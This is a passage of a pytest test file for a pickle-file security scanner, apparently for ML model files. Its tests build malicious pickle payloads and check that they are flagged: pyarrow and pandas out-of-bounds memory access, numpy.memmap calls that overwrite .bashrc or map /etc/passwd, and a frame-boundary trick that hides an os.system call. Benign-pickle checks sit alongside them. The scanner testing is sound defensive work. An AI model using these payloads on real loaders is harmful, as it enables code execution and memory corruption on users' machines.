        np.zeros(2, dtype=[("a", "i4"), ("b", "V8")]),
        np.array([None, 1], dtype=object),
    ]
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(arrays, protocol=protocol)))


# --- pyarrow arrays rebuilt without validation ----------------------------------------------------------------------
# pyarrow.lib._restore_array (allow-listed for pandas' pyarrow-backed columns) builds the array from the pickled
# type, length, offset and buffers without validating them: a length past the buffers makes any access read memory
# the array does not own (a segfault at once for arr[1 << 30] over an 8-byte buffer).


def _abuf(data: bytes) -> bytes:
    return call(g("pyarrow.lib.py_buffer"), call(g("builtins.bytearray"), b"C" + bytes([len(data)]) + data))


def _arrow(alias: str, length: int, offset: int, *buffers: bytes) -> bytes:
    kind = call(g("pyarrow.lib.type_for_alias"), u(alias))
    fields = (kind, b"J" + struct.pack("<i", length), b"J\xff\xff\xff\xff", b"J" + struct.pack("<i", offset))
    return call(g("pyarrow.lib._restore_array"), tup(*fields, b"(" + b"".join(buffers) + b"l", b"]", b"N"))


@pytest.mark.parametrize(
    "payload",
    [
        _arrow("int64", 1 << 30, 0, b"N", _abuf(b"\0" * 8)),
        _arrow("double", 2, 1, b"N", _abuf(b"\0" * 16)),
        _arrow("bool", 100, 0, b"N", _abuf(b"\xff")),
        _arrow("int8", 100, 0, _abuf(b"\xff"), _abuf(b"\0" * 100)),
        _arrow("int8", 1, -5, b"N", _abuf(b"\0" * 8)),
        _arrow("string", 100, 0, b"N", _abuf(struct.pack("<ii", 0, 1)), _abuf(b"abc")),
        _arrow("string", 1, 0, b"N", _abuf(struct.pack("<ii", 0, 1 << 30)), _abuf(b"abc")),
        _arrow("large_string", 1, 0, b"N", _abuf(struct.pack("<qq", 2, 1)), _abuf(b"abc")),
    ],
    ids=[
        "int64-length",
        "double-offset",
        "bool-bits",
        "validity",
        "negative",
        "offsets",
        "data",
        "decreasing",
    ],
)
def test_arrow_array_reaching_outside_its_buffers_is_reported(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == Severity.HIGH, result
    assert any(s.startswith("pyarrow.lib._restore_array:") for s in subjects(result))


def test_real_arrow_arrays_and_tables_stay_clean() -> None:
    pa = pytest.importorskip("pyarrow")
    objects = [
        pa.array([1, None, 3]),
        pa.array(["ab", None, "c"]).slice(1, 2),
        pa.array([True, False, None]),
        pa.array(["x", "yz"], type=pa.large_string()),
        pa.array([1.5], type=pa.float32()),
        pa.table({"a": [1, 2], "s": ["x", "y"]}),
        pa.chunked_array([[1], [2, 3]]),
    ]
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))
    clean(analyze_pickle_bytes(P4 + _arrow("int64", 1, 0, b"N", _abuf(b"\0" * 8)) + STOP))


# --- pandas block placements outside the frame ------------------------------------------------------------------------
# BlockManager(blocks, axes) checks that the placements add up to the number of columns, not that each lies among
# them; its Cython _rebuild_blknos_and_blklocs (run at the first column access) writes at each placement index
# without bounds checks: a placement slice(10**8, 10**8 + 2) is a heap write 800 MB past a 2-element array.


def _i8_array(values: list[int]) -> bytes:
    dtype = call(g("numpy.dtype"), u("i8"), b"\x89", b"\x88")
    dtype += (
        tup(b"K\x03", u("<"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00") + b"b"
    )
    raw = struct.pack(f"<{len(values)}q", *values)
    array = call(g("numpy.core.multiarray._reconstruct"), g("numpy.ndarray"), tup(b"K\x00"), b"C\x01b")
    return (
        array
        + tup(b"K\x01", tup(b"K" + bytes([len(values)])), dtype, b"\x89", b"C" + bytes([len(raw)]) + raw)
        + b"b"
    )


def _slice(start: int, stop: int) -> bytes:
    return call(g("builtins.slice"), b"J" + struct.pack("<i", start), b"J" + struct.pack("<i", stop), b"N")


def _manager(*placements: bytes) -> bytes:
    values = call(g("numpy.core.multiarray._reconstruct"), g("numpy.ndarray"), tup(b"K\x00"), b"C\x01b")
    blocks = [call(g("pandas._libs.internals._unpickle_block"), values, p, b"K\x02") for p in placements]
    return call(g("pandas.core.internals.managers.BlockManager"), tup(*blocks), b"]")


@pytest.mark.parametrize(
    "payload",
    [
        _manager(_slice(100_000_000, 100_000_002)),
        _manager(_slice(0, 1), _slice(5, 6)),
        _manager(_i8_array([0, 2]), _i8_array([1, 70_000])),
        _manager(_i8_array([-3])),
    ],
    ids=["slice", "second-block", "array", "negative"],
)
def test_block_placement_outside_the_columns_is_reported(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert "pandas.BlockManager:placement" in subjects(result), result
    assert worst(result) == Severity.HIGH


def test_real_frames_and_placements_inside_stay_clean() -> None:
    clean(analyze_pickle_bytes(P4 + _manager(_i8_array([0, 2]), _slice(1, 2)) + STOP))
    pd = pytest.importorskip("pandas")
    np = pytest.importorskip("numpy")
    frames = [
        pd.DataFrame({"a": [1.0, 2.0], "b": [1, 2], "c": [3.0, 4.0], "d": ["x", "y"]}),
        pd.DataFrame(np.zeros((3, 4))),
        pd.DataFrame({"t": pd.date_range("2020", periods=2), "x": [1, 2], "y": [1.0, 2.0], "z": [3, 4]}),
    ]
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(frames, protocol=protocol)))


# --- numpy.memmap: harmless as a pickled array's subtype, a file mapping when called ---------------------------
# A pickled np.memmap is _reconstruct(numpy.memmap, (0,), b'b') + BUILD of the array state: ndarray.__new__ of the
# subtype, whose __array_finalize__ only clears the mapping attributes. Called, memmap(path, mode='w+') creates and
# maps the file its arguments name. The import is judged by its uses: every copy must be that subtype argument.

_RECONSTRUCT = "numpy._core.multiarray._reconstruct"


def _array_of(subtype: bytes) -> bytes:
    return call(g(_RECONSTRUCT), subtype, tup(b"K\x00"), b"C\x01b")


def test_real_pickled_memmap_is_clean(tmp_path: object) -> None:
    import numpy as np

    path = f"{tmp_path}/m.dat"
    m = np.memmap(path, dtype="float32", mode="w+", shape=(4,))
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(m, protocol=protocol)))


def test_memmap_subtype_reused_through_the_memo_is_clean() -> None:
    data = P4 + _array_of(g("numpy.memmap") + b"\x94") + b"0" + _array_of(b"h\x00") + STOP
    clean(analyze_pickle_bytes(data))


@pytest.mark.parametrize(
    "payload",
    [
        # called directly: maps (and with w+ creates) the file
        call(g("numpy.memmap"), u("/home/user/.bashrc"), u("w+")),
        call(g("numpy.core.memmap.memmap"), u("/home/user/.bashrc"), u("r+")),
        # one copy as the subtype, another (from the memo) called
        _array_of(g("numpy.memmap") + b"\x94") + b"0" + call(b"h\x00", u("/etc/passwd")),
        # handed to partial, or kept in a container for a later call
        call(g("functools.partial"), g("numpy.memmap"), u("/etc/passwd")),
        tup(g("numpy.memmap")),
        # NEWOBJ: memmap.__new__(memmap, path) is its constructor
        g("numpy.memmap") + tup(u("/etc/passwd")) + b"\x81",
        # the subtype of another reconstructor
        call(g("copyreg._reconstructor"), g("numpy.memmap"), g("builtins.object"), b"N"),
    ],
)
def test_memmap_used_other_than_as_the_subtype_is_reported(payload: bytes) -> None:
    res = analyze_pickle_bytes(P4 + payload + STOP)
    assert "numpy.memmap" in subjects(res) or "numpy.core.memmap.memmap" in subjects(res), res.findings
    assert worst(res) is Severity.CRITICAL


# --- allow-listed functions kept as attributes but never called by a pickle -------------------------------------
# A DataLoader saved whole keeps default_collate/default_convert as attributes. Called at load time they call the
# class of each element they are handed (type(elem)(...)): a constructor the allow-list admits only for rebuilding.


@pytest.mark.parametrize(
    "func",
    ["torch.utils.data._utils.collate.default_collate", "torch.utils.data._utils.collate.default_convert"],
)
def test_collate_functions_called_at_load_time_are_reported(func: str) -> None:
    element = g("collections.OrderedDict") + b")\x81"  # rebuilt without its constructor
    result = analyze_pickle_bytes(P4 + call(g(func), b"](" + element + b"e") + STOP)
    assert worst(result) == Severity.HIGH, result


def test_collate_function_kept_as_an_attribute_is_clean() -> None:
    state = b"}(" + u("collate_fn") + g("torch.utils.data._utils.collate.default_collate") + b"u"
    clean(analyze_pickle_bytes(P4 + state + STOP))


# --- frames: an opcode whose argument runs past the end of its FRAME ---------------------------------------------
# CPython's pickler ends frames at opcode boundaries. An argument that runs past a frame's end is read differently
# by pickle.load(file) (the C unpickler drops the rest of the frame and reads the argument from the file) and by
# pickle.loads(bytes) (reads on), so each runs other opcodes (python/cpython#154848; fickling's
# test_frame_boundary_divergence). The scanner read it as loads does: the GLOBAL/REDUCE a file load runs was
# swallowed as bytes and the file was clean.

_HIDDEN = b"cos\nsystem\nVecho pwned\n\x85R"


def _framed(body: bytes, declared: int) -> bytes:
    return b"\x80\x05\x95" + struct.pack("<Q", declared) + body


def _divergence() -> bytes:
    return (
        b"\x80\x05NV"
        + b"a" * (8192 * 16 - 17)
        + b"\n0(\x95"
        + struct.pack("<Q", 2)
        + b"B\x07\x01\x00\x00\x00\x00"
        + (_HIDDEN + b"(").ljust(256 + 5, b"N")
        + b"1."
    )


def test_frame_divergence_reports_what_a_file_load_runs() -> None:
    result = analyze_pickle_bytes(_divergence())
    assert result.unverified is not None and "FRAME" in result.unverified
    assert worst(result) == Severity.CRITICAL, result
    assert "os.system" in subjects(result)


@pytest.mark.parametrize(
    "data",
    [
        _framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5) + STOP,  # BINBYTES
        _framed(b"\x8c\x14" + b"A" * 20, 3) + STOP,  # SHORT_BINUNICODE
        _framed(b"cmacos\nsystem\n", 4) + STOP,  # GLOBAL module
        _framed(b"Vhello world\n", 5) + STOP,  # UNICODE
        _framed(b"J" + struct.pack("<i", 7), 2) + STOP,  # BININT
        _framed(b"N\x95" + struct.pack("<Q", 2) + b"N", 30) + STOP,  # a frame opening inside another
        # the straddle hiding a payload: the BINBYTES a loads() reads is opcodes to a load(file)
        _framed(b"B" + struct.pack("<I", 40), 3) + (_HIDDEN + b"0").ljust(40, b"N") + b"N" + STOP,
    ],
)
def test_opcodes_straddling_a_frame_end_are_unverified(data: bytes) -> None:
    result = analyze_pickle_bytes(data)
    assert result.unverified is not None and "FRAME" in result.unverified, result


@pytest.mark.parametrize("protocol", [4, 5])
@pytest.mark.parametrize(
    "obj",
    [
        [1, 2, 3],
        b"x" * 100_000,  # written outside any frame
        [1, b"y" * 100_000, 2, "z" * 70_000, 3],  # framed and unframed interleaved
        list(range(200_000)),  # several full frames
        {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]},
    ],
)
def test_well_formed_frames_stay_clean(obj: object, protocol: int) -> None:
    clean(analyze_pickle_bytes(pickle.dumps(obj, protocol=protocol)))
